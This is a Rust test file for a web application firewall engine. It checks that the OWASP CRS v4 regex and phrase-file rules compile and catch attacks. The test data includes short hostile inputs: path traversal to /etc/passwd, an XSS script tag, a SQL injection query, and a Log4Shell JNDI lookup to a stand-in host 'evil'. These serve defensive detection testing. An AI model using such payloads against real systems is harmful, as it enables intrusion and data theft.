//! Every `@rx` pattern and `@pmFromFile` data file of OWASP CRS v4 compiles.

use std::path::PathBuf;

use super::super::ast::OperatorAst;
use super::Operator;

fn crs_rules() -> PathBuf {
    let corpora = std::env::var("RAMPART_CORPORA")
        .unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpora").into());
    PathBuf::from(corpora).join("crs-v4/rules")
}

/// `(file, line, name, argument, negated)` of every operator string in the CRS `.conf` files
/// whose name is in `names` (the quoted operator is on one physical line in CRS: checked).
fn crs_operators(names: &[&str]) -> Vec<(String, usize, String, String, bool)> {
    let dir = crs_rules();
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "conf"))
        .collect();
    files.sort();
    let mut found = Vec::new();
    for file in files {
        let text = std::fs::read_to_string(&file).expect("readable rule file");
        let fname = file.file_name().unwrap().to_string_lossy().into_owned();
        for (n, line) in text.lines().enumerate() {
            for name in names {
                for negated in [false, true] {
                    let opener = format!("\"{}@{name} ", if negated { "!" } else { "" });
                    let Some(at) = line.find(&opener) else {
                        continue;
                    };
                    let rest = &line[at + opener.len()..];
                    let mut arg = String::new();
                    let mut chars = rest.chars();
                    let mut closed = false;
                    while let Some(c) = chars.next() {
                        match c {
                            '\\' => match chars.next() {
                                Some('"') => arg.push('"'),
                                Some(o) => {
                                    arg.push('\\');
                                    arg.push(o);
                                }
                                None => arg.push('\\'),
                            },
                            '"' => {
                                closed = true;
                                break;
                            }
                            _ => arg.push(c),
                        }
                    }
                    assert!(closed, "{fname}:{}: operator not closed on its line", n + 1);
                    found.push((fname.clone(), n + 1, name.to_string(), arg, negated));
                }
            }
        }
    }
    found
}

#[test]
fn every_crs_rx_compiles() {
    let ops = crs_operators(&["rx"]);
    assert!(ops.len() > 250, "only {} @rx found", ops.len());
    let mut fallback = Vec::new();
    let mut failed = Vec::new();
    for (file, line, name, argument, negated) in &ops {
        let ast = OperatorAst {
            name: name.clone(),
            argument: argument.clone(),
            negated: *negated,
        };
        match Operator::compile(&ast, &crs_rules()) {
            Ok(op) if op.uses_fallback() => fallback.push(format!("{file}:{line}: {argument}")),
            Ok(_) => {}
            Err(e) => failed.push(format!("{file}:{line}: {e}")),
        }
    }
    println!(
        "CRS v4 @rx: {} total, {} native, {} fallback",
        ops.len(),
        ops.len() - fallback.len() - failed.len(),
        fallback.len()
    );
    for f in &fallback {
        println!("fallback: {f}");
    }
    assert!(failed.is_empty(), "did not compile:\n{}", failed.join("\n"));
    assert!(
        fallback.len() <= 10,
        "{} patterns need the fallback",
        fallback.len()
    );
}

/// The `@rx` pattern of CRS rule `id` (the rule's own operator, not a chained one).
fn crs_rx_of(id: u32) -> String {
    let dir = crs_rules();
    let needle = format!("id:{id},");
    for (file, line, _, argument, _) in crs_operators(&["rx"]) {
        let text = std::fs::read_to_string(dir.join(&file)).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        for l in &lines[line..] {
            if l.trim_start().starts_with("SecRule") || l.trim_start().starts_with("SecAction") {
                break;
            }
            if l.contains(&needle) {
                return argument;
            }
        }
    }
    panic!("no @rx rule {id} in CRS");
}

#[test]
fn crs_rx_rules_catch_their_attacks() {
    let cases: &[(u32, &[u8], &[u8])] = &[
        (930110, b"../../etc/passwd", b"a.b/c"),
        (941110, b"<ScRiPt>alert(1)", b"script"),
        (
            942140,
            b"select * from information_schema.tables",
            b"hello world",
        ),
        (944150, b"${jndi:ldap://evil/a}", b"$5 price"),
        (933160, b"eval(1)", b"evaluation"),
        (920260, b"%uff0e", b"%41"),
    ];
    let expand = |s: &str| s.to_string();
    for &(id, attack, benign) in cases {
        let ast = OperatorAst {
            name: "rx".into(),
            argument: crs_rx_of(id),
            negated: false,
        };
        let op = Operator::compile(&ast, &crs_rules()).unwrap();
        let mut caps = Vec::new();
        let mut ctx = super::MatchCtx {
            expand: &expand,
            capture: true,
            captures: &mut caps,
        };
        assert!(op.matches(attack, &mut ctx), "{id} missed {attack:?}");
        assert!(!op.matches(benign, &mut ctx), "{id} hit {benign:?}");
    }
}

#[test]
fn every_crs_pm_from_file_loads() {
    let ops = crs_operators(&["pmFromFile", "pmf"]);
    assert!(ops.len() >= 15, "only {} @pmFromFile found", ops.len());
    for (file, line, name, argument, negated) in &ops {
        let ast = OperatorAst {
            name: name.clone(),
            argument: argument.clone(),
            negated: *negated,
        };
        if let Err(e) = Operator::compile(&ast, &crs_rules()) {
            panic!("{file}:{line}: {e}");
        }
    }
}

#[test]
fn crs_lfi_data_file_matches() {
    let ast = OperatorAst {
        name: "pmFromFile".into(),
        argument: "lfi-os-files.data".into(),
        negated: false,
    };
    let op = Operator::compile(&ast, &crs_rules()).expect("lfi-os-files.data loads");
    let mut caps = Vec::new();
    let expand = |s: &str| s.to_string();
    let mut ctx = super::MatchCtx {
        expand: &expand,
        capture: true,
        captures: &mut caps,
    };
    assert!(op.matches(b"/index.php?f=../../ETC/PASSWD", &mut ctx));
    assert!(!op.matches(b"hello world", &mut ctx));
    assert!(caps[0].eq_ignore_ascii_case(b"etc/passwd"), "{caps:?}");
}

/// Attack and benign strings: libinjection's SQLi/XSS lists and every `uri:`/`data:` line of
/// CRS's regression tests, each also URL-decoded.
fn corpus_inputs() -> Vec<Vec<u8>> {
    let corpora = crs_rules().join("../..");
    let mut lines: Vec<Vec<u8>> = Vec::new();
    let lib = corpora.join("libinjection/data");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&lib)
        .unwrap_or_else(|e| panic!("{}: {e}", lib.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "txt"))
        .collect();
    let tests = corpora.join("crs-v4/tests/regression/tests");
    for dir in std::fs::read_dir(&tests)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.path().is_dir())
    {
        files.extend(
            std::fs::read_dir(dir.path())
                .unwrap()
                .filter_map(|e| e.ok().map(|e| e.path())),
        );
    }
    files.sort();
    for f in files {
        let text = std::fs::read(&f).unwrap();
        let yaml = f.extension().is_some_and(|x| x == "yaml");
        for line in text.split(|&b| b == b'\n') {
            let line = line.trim_ascii();
            let value = if yaml {
                let Some(v) = [&b"uri:"[..], b"data:"]
                    .iter()
                    .find_map(|k| line.strip_prefix(*k))
                else {
                    continue;
                };
                let v = v.trim_ascii();
                v.strip_prefix(b"\"")
                    .and_then(|v| v.strip_suffix(b"\""))
                    .unwrap_or(v)
            } else {
                line
            };
            if !value.is_empty() {
                lines.push(value.to_vec());
            }
        }
    }
    let decode = crate::seclang::transform::Transform::UrlDecodeUni;
    let decoded: Vec<Vec<u8>> = lines
        .iter()
        .map(|l| decode.apply(std::borrow::Cow::Borrowed(l)).into_owned())
        .collect();
    lines.extend(decoded);
    lines.sort();
    lines.dedup();
    lines
}

/// The prefilter's promise, on real attacks: whenever a CRS `@rx` matches, one of its
/// needles occurs in the value (case-insensitively).
#[test]
fn crs_rx_needles_occur_in_every_match() {
    let inputs = corpus_inputs();
    assert!(inputs.len() > 5_000, "only {} inputs", inputs.len());
    let expand = |s: &str| s.to_string();
    let (mut with_needles, mut checked) = (0, 0);
    let mut missed = Vec::new();
    for (file, line, name, argument, negated) in crs_operators(&["rx"]) {
        let ast = OperatorAst {
            name,
            argument: argument.clone(),
            negated,
        };
        let op = Operator::compile(&ast, &crs_rules()).unwrap();
        let Some(needles) = op.needles() else {
            continue;
        };
        with_needles += 1;
        let ac = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(needles)
            .unwrap();
        for input in &inputs {
            if ac.is_match(&input[..]) {
                continue;
            }
            let mut caps = Vec::new();
            let mut ctx = super::MatchCtx {
                expand: &expand,
                capture: false,
                captures: &mut caps,
            };
            checked += 1;
            if op.matches(input, &mut ctx) {
                missed.push(format!(
                    "{file}:{line}: {:?}",
                    String::from_utf8_lossy(input)
                ));
            }
        }
    }
    println!("{with_needles} @rx with needles, {checked} needle-free inputs checked");
    assert!(
        with_needles > 200,
        "only {with_needles} patterns have needles"
    );
    assert!(
        missed.is_empty(),
        "matched without a needle:\n{}",
        missed.join("\n")
    );
}
